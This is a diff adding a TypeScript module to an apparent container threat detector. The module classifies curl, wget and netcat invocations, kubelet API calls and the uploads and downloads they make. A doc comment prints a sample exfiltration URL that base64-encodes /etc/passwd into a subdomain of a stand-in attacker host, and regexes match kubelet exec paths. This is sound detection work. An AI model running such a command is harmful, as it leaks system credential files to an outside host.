@@ -1,0 +1,189 @@
+/**
+ * What one invocation's arguments and command line say, for the indicators: where its traffic goes,
+ * which files it writes and sends (the tool family's declaration, then redirections and the pipeline),
+ * kubelet API calls, and which of its ancestors are known service scripts.
+ */
+import type { ExecEvent, Utility } from "../model.js";
+import { ancestorList, type Candidate, text } from "./candidates.js";
+import { executableName } from "./catalogue.js";
+import { type CommandSegment, commandStart } from "./command-line.js";
+import { fedTexts, pipedOutputs, relayedFile } from "./feeds.js";
+import type { ParsedArgs } from "./options.js";
+import { familyOf, type Targets } from "./utilities/index.js";
+import { netcat } from "./utilities/netcat.js";
+import { hostsOf, NOT_FILES, quote } from "./utilities/words.js";
+
+const S6_SERVICE_SCRIPT =
+  /^\/(?:var\/)?run\/(?:s6-rc\/servicedirs|service|s6\/services|s6\/legacy-services|s6\/db\/servicedirs)\/[A-Za-z0-9@._-]+\/(?:run|finish|data\/check)$/;
+
+const ACME_SH = /^(?:\/root|\/home\/[A-Za-z0-9._-]+)\/\.acme\.sh\/acme\.sh$/;
+
+const WAIT_FOR_IT = /^\/home\/[A-Za-z0-9._-]+\/(?:[A-Za-z0-9._-]+\/){0,3}wait-for(?:-it)?(?:\.sh)?$/;
+
+const CRON = new Set(["cron", "crond", "supercronic", "busybox"]);
+
+/**
+ * Service scripts that live in writable places by design, each recognised narrowly (README "Quiet
+ * defaults"): an s6-overlay service's `run`/`finish` under /run supervised by s6-supervise; acme.sh's
+ * certificate renewal from ~/.acme.sh started by cron, fetching with curl or wget; wait-for-it.sh in
+ * an application's WORKDIR under /home checking a port with `nc -z host port`. Only the location
+ * indicator of that one ancestor is waived; every other indicator still counts.
+ */
+export function knownServiceScript(
+  path: string,
+  above: { path?: string; name?: string }[],
+  utility: string,
+  args: readonly string[],
+): string | undefined {
+  const names = above.map((a) => executableName(a.path ?? a.name ?? ""));
+  if (S6_SERVICE_SCRIPT.test(path) && names[0] === "s6-supervise") return "an s6-overlay service script";
+  if (ACME_SH.test(path) && (utility === "curl" || utility === "wget") && names.some((n) => CRON.has(n))) {
+    return "acme.sh renewing certificates from cron";
+  }
+  if (WAIT_FOR_IT.test(path) && familyOf(utility) === netcat && isPortCheck(args))
+    return "wait-for-it.sh checking a port";
+  return undefined;
+}
+
+/** `nc -z [-v] [-w N] HOST PORT`: a port check and nothing else. */
+function isPortCheck(args: readonly string[]): boolean {
+  let zero = false;
+  const operands: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const arg = args[i]!;
+    if (/^-[zv]+$/.test(arg)) zero ||= arg.includes("z");
+    else if (arg === "-w") i++;
+    else if (/^-w\d+$/.test(arg)) continue;
+    else if (arg.startsWith("-")) return false;
+    else operands.push(arg);
+  }
+  return zero && operands.length === 2 && /^\d{1,5}$/.test(operands[1]!);
+}
+
+/**
+ * Calls of the kubelet's API (port 10250, read-only 10255) by a download tool: `/run/…` and `/exec/…`
+ * run commands in other pods' containers (Microsoft's threat matrix for Kubernetes, MITRE T1609);
+ * `/pods`, `/runningpods` and `/configz` list what runs on the node. Health checks are left alone.
+ */
+export function kubeletCall(
+  name: string,
+  parsed: ParsedArgs,
+): { severity: "critical" | "high"; reason: string } | undefined {
+  const requests = familyOf(name)?.requests;
+  if (requests === undefined) return undefined;
+  for (const operand of requests(name, parsed)) {
+    const match = /^(?:https?:\/\/)?(?:\[[^\]]+\]|[^/:?#]+):(10250|10255)(\/[^?#]*)?/i.exec(operand);
+    if (match === null) continue;
+    const path = match[2] ?? "/";
+    if (/^\/(?:run|exec|attach|portForward|cri)\//i.test(path)) {
+      return {
+        severity: "critical",
+        reason: `${name} runs a command through the kubelet API (${quote(operand)})`,
+      };
+    }
+    if (/^\/(?:pods|runningpods|configz|debug|containerLogs|logs)(?:\/|$)/i.test(path)) {
+      return { severity: "high", reason: `${name} queries the kubelet API (${quote(operand)})` };
+    }
+  }
+  return undefined;
+}
+
+export const VERSION_OR_HELP = new Set(["--version", "-V", "-version", "--help", "-h", "-help", "-?"]);
+
+/** The process's ancestry as far as the event shows it, nearest first (payload shells first in a session). */
+export function lineageOf(candidate: Candidate, event: ExecEvent): { path?: string; name?: string }[] {
+  const out: { path?: string; name?: string }[] = [];
+  for (let shell = candidate.segment?.payloadOf, k = 0; shell !== undefined && k < 16; k++) {
+    const head = shell.argv[commandStart(shell.argv)] ?? shell.argv[0];
+    if (head !== undefined) out.push(head.includes("/") ? { path: head } : { name: head });
+    shell = shell.payloadOf;
+  }
+  for (const ancestor of ancestorList(event)) {
+    if (ancestor === null || typeof ancestor !== "object") continue;
+    const path = text(ancestor.path);
+    const name = text(ancestor.name);
+    // A name only counts as a place when it carries one (memfd:…, a path, " (deleted)").
+    out.push({ ...(path !== undefined ? { path } : {}), ...(name !== undefined ? { name } : {}) });
+  }
+  return out;
+}
+
+/**
+ * The host part of an operand that holds a command substitution, with the substitution kept whole:
+ * `http://$(cat /etc/passwd | base64).evil.tld/x` -> `$(cat /etc/passwd | base64).evil.tld`.
+ */
+export function substitutedHost(operand: string): string | undefined {
+  if (!operand.includes("$(") && !operand.includes("`")) return undefined;
+  const text = operand.length > 4096 ? operand.slice(0, 4096) : operand;
+  const start = /^[a-z][a-z0-9+.-]*:\/\//i.exec(text)?.[0].length ?? 0;
+  let depth = 0;
+  let tick = false;
+  let end = start;
+  for (; end < text.length; end++) {
+    const c = text[end]!;
+    if (c === "$" && text[end + 1] === "(") {
+      depth++;
+      end++;
+    } else if (c === ")" && depth > 0) depth--;
+    else if (c === "`") tick = !tick;
+    else if (depth === 0 && !tick && (c === "/" || c === "?" || c === "#" || c === ":" || c === "@")) break;
+  }
+  return text.slice(start, end);
+}
+
+export interface Output {
+  path: string;
+  /** The path is a directory the tool writes into (the working directory, -P, --output-dir). */
+  directory: boolean;
+  why: string;
+}
+
+/** Where the invocation's traffic goes: its family's reading, else every operand's host. */
+export function targetsOf(name: string, parsed: ParsedArgs): Targets {
+  const family = familyOf(name);
+  if (family?.targets !== undefined) return family.targets(name, parsed);
+  return { hosts: hostsOf(parsed.operands), via: [], exemptable: true };
+}
+
+/** Where the invocation writes what it downloads: what its family reads, then its redirections and pipeline. */
+export function downloadOutputs(
+  name: string,
+  parsed: ParsedArgs,
+  segment: CommandSegment | undefined,
+): Output[] {
+  const out: Output[] = [];
+  const file = (path: string | undefined, why: string) => {
+    if (path !== undefined && path !== "" && !NOT_FILES.has(path)) out.push({ path, directory: false, why });
+  };
+  const dir = (path: string | undefined, why: string) => {
+    if (path !== undefined && path !== "") out.push({ path, directory: true, why });
+  };
+  // Files named after the URL, written into `directory` (curl -O, wget without -O).
+  const into = (directory: string, why: string) => {
+    let named = false;
+    for (const operand of parsed.operands) {
+      const fileName = /^[a-z][a-z0-9+.-]*:\/\/[^/?#]*\/(?:[^?#]*\/)?([^/?#]+)(?:[?#]|$)/i.exec(operand)?.[1];
+      if (fileName === undefined || fileName === "." || fileName === "..") continue;
+      file(directory === "." ? fileName : `${directory}/${fileName}`, why);
+      named = true;
+    }
+    if (!named) dir(directory, why);
+  };
+  const sink = { file, dir, into };
+  familyOf(name)?.outputs?.(name, parsed, fedTexts(segment), sink);
+  if (segment !== undefined) pipedOutputs(segment, sink);
+  return out;
+}
+
+/** What the invocation sends out of the container, in words after the utility's name; undefined when nothing. */
+export function uploads(
+  name: string,
+  utility: Utility,
+  parsed: ParsedArgs,
+  segment: CommandSegment | undefined,
+): string | undefined {
+  const family = familyOf(name);
+  const declared = family?.uploads?.(name, parsed, fedTexts(segment));
+  if (declared !== undefined) return declared;
+  return utility.category === "relay" ? relayedFile(name, segment) : undefined;
+}
